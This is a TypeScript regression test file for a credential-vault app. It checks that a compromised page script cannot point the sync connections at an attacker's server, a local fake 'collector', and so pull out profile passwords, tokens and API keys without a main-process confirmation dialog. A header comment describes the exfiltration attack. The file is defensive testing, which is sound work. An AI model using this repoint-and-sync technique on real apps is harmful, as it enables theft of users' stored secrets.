import { afterEach, describe, expect, it } from 'vitest';
import { BACKSIDE_TEST_TOKEN, startFakeBackside } from '../fakes/backside';
import { startFakeServer } from '../fakes/faults';
import { KURA_TEST_API_KEY, startFakeKura } from '../fakes/kura';
import { apiHarness, MASTER, type ApiHarness } from '../integration/api-harness';

// Attack (a compromised window: a script in the page, whose own network is closed): remoteSet
// pointed Kura or Backside at the attacker's server with any credential the page made up (a
// credential is asked for again when the origin changes, but the page can type one). The next
// sync, which the page can trigger with any edit and "Sync now", sent every profile value and Kura
// token there, and byokValidate each BYOK key: the whole vault in one pass, past the reveal limit,
// through main's requests, which the page's network block does not cover. "Test connection" also
// carried whatever the page put in the credential. Now a change of address or credential from the
// window happens only after the person says yes in main's own dialog, which names the address.

const PASSWORD = 'db-password-THAT-MUST-NOT-LEAVE-0001';
const API_KEY = 'sk-ant-api03-BYOK-THAT-MUST-NOT-LEAVE-000000000000';

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  while (cleanups.length) await cleanups.pop()?.();
});

async function setup() {
  const kura = await startFakeKura({ agents: { crm: ['USER', 'PASSWORD'] } });
  const backside = await startFakeBackside();
  // The attacker's server: takes anything, answers like Kura and Backside would.
  const collector = await startFakeServer(() => ({ status: 200, json: { type: 'update', auth_token: 'kat_collector', valid: true } }));
  cleanups.push(() => Promise.all([kura.close(), backside.close(), collector.close()]));
  const h = apiHarness();
  cleanups.push(() => h.cleanup());
  await h.ok('vaultCreate', { password: MASTER });
  // The person connects both and syncs: each connection is confirmed in main's dialog.
  await h.ok('remoteSet', { kind: 'kura', url: kura.url, credential: KURA_TEST_API_KEY });
  await h.ok('remoteSet', { kind: 'backside', url: backside.url, credential: BACKSIDE_TEST_TOKEN });
  await h.ok('profileCreate', { agentId: 'crm', name: 'prod', authData: { USER: 'ann', PASSWORD } });
  await h.ok('byokSet', { kind: 'claude-code', apiKey: API_KEY });
  await h.ok('syncNow');
  h.confirmations.asked.length = 0;
  return { h, kura, backside, collector };
}

const urlOf = async (h: ApiHarness, kind: 'kura' | 'backside') => (await h.ok('remotesList')).find((r) => r.kind === kind)?.url;

describe('a window that points a connection at another server', () => {
  it('is asked in main’s dialog, naming the address; unanswered (or Cancel), nothing changes and no value goes there', async () => {
    const { h, kura, collector } = await setup();
    // The page cannot answer main's dialog: Cancel is its default.
    h.confirmations.answer = false;

    const moved = await h.call('remoteSet', { kind: 'kura', url: collector.url, credential: 'made-up-by-the-page' });
    const toBackside = await h.call('remoteSet', { kind: 'backside', url: collector.url, credential: 'made-up-by-the-page' });
    // What the page does next to make main push: an edit, a sync, a key check, a connection test.
    await h.ok('profileEdit', { ref: 'crm/prod', patch: { saveSession: true } });
    await h.ok('syncNow');
    await h.call('byokValidate', { kind: 'claude-code' });
    await h.call('remoteTest', { kind: 'kura' });

    // Before: the profile's values, its Kura token and the BYOK key all reached the collector.
    const collected = JSON.stringify(collector.requests.map((q) => q.body));
    expect(collected).not.toContain(PASSWORD);
    expect(collected).not.toContain(API_KEY);
    expect(collector.requests).toHaveLength(0);

    expect(moved).toMatchObject({ ok: false, error: { code: 'Cancelled', message: 'The Kura connection was not changed.' } });
    expect(toBackside).toMatchObject({ ok: false, error: { code: 'Cancelled', message: 'The Backside connection was not changed.' } });
    expect(h.confirmations.asked).toEqual([
      {
        message: `Send the values and Kura tokens of your profiles to ${collector.url}?`,
        detail: expect.stringContaining('Choose Cancel unless you entered this address and the API key yourself just now.'),
      },
      { message: `Send your BYOK keys to ${collector.url}?`, detail: expect.stringContaining('with the token just entered') },
    ]);
    expect(await urlOf(h, 'kura')).toBe(kura.url);
    // The edit was pushed where the person connected it.
    expect(kura.requests.map((q) => q.body)).toContainEqual(expect.objectContaining({ api_key: KURA_TEST_API_KEY, should_save_session: true }));
  });

  it('a new credential for the same server is asked too: it may be the attacker’s account there', async () => {
    const { h, kura } = await setup();
    h.confirmations.answer = false;
    expect(await h.call('remoteSet', { kind: 'kura', url: kura.url, credential: 'attackers-own-kura-key' })).toMatchObject({
      ok: false,
      error: { code: 'Cancelled' },
    });
    expect(h.confirmations.asked).toHaveLength(1);
    // The saved key was kept: the next push still authenticates as the person.
    await h.ok('profileEdit', { ref: 'crm/prod', patch: { saveSession: true } });
    await h.ok('syncNow');
    expect(kura.requests.at(-1)?.body).toMatchObject({ api_key: KURA_TEST_API_KEY, should_save_session: true, auth_data: { PASSWORD } });
  });

  it('nothing is asked when nothing changes, and a yes applies exactly what was asked about', async () => {
    const { h, kura } = await setup();
    // Saving the form again with the same address, or the same key typed again, moves nothing.
    await h.ok('remoteSet', { kind: 'kura', url: kura.url });
    await h.ok('remoteSet', { kind: 'kura', url: kura.url, credential: KURA_TEST_API_KEY });
    expect(h.confirmations.asked).toHaveLength(0);

    // Another path on the same server is another address: asked.
    await h.ok('remoteSet', { kind: 'kura', url: `${kura.url}/v2` });
    expect(h.confirmations.asked.map((q) => q.message)).toEqual([`Send the values and Kura tokens of your profiles to ${kura.url}/v2?`]);
    expect(h.confirmations.asked[0]?.detail).not.toContain('API key');
    expect(await urlOf(h, 'kura')).toBe(`${kura.url}/v2`);
  });

  it('asks one question at a time: a second change while the dialog is open is refused', async () => {
    const { kura, backside } = await startServers();
    let answer: (yes: boolean) => void = () => undefined;
    const asked: string[] = [];
    const h = apiHarness({
      confirm: {
        confirm: ({ message }) => {
          asked.push(message);
          return new Promise<boolean>((resolve) => (answer = resolve));
        },
      },
    });
    cleanups.push(() => h.cleanup());
    await h.ok('vaultCreate', { password: MASTER });
    const first = h.call('remoteSet', { kind: 'kura', url: kura.url, credential: KURA_TEST_API_KEY });
    await new Promise((r) => setTimeout(r, 20));
    expect(await h.call('remoteSet', { kind: 'backside', url: backside.url, credential: BACKSIDE_TEST_TOKEN })).toMatchObject({
      ok: false,
      error: { code: 'Conflict' },
    });
    answer(true);
    expect(await first).toMatchObject({ ok: true, value: { url: kura.url } });
    expect(asked).toHaveLength(1);
  });

  it('without main’s dialog (no confirmation port), a change is refused, never made unasked', async () => {
    const { kura } = await startServers();
    const h = apiHarness({ confirm: undefined });
    cleanups.push(() => h.cleanup());
    await h.ok('vaultCreate', { password: MASTER });
    expect(await h.call('remoteSet', { kind: 'kura', url: kura.url, credential: KURA_TEST_API_KEY })).toMatchObject({
      ok: false,
      error: { code: 'BadInput' },
    });
    expect(await h.ok('remotesList')).toEqual([]);
  });
});

async function startServers() {
  const kura = await startFakeKura();
  const backside = await startFakeBackside();
  cleanups.push(() => Promise.all([kura.close(), backside.close()]));
  return { kura, backside };
}
